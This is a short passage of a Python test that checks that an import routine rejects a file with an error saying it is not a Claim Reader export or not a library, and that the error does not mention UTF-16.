    error = check_outcome(db, path.read_bytes(), tmp_path, name.replace(".", "-"))
    assert error is not None and named in error, error
    assert "not a Claim Reader export" in error or "not a library" in error, error
    assert "UTF-16" not in error
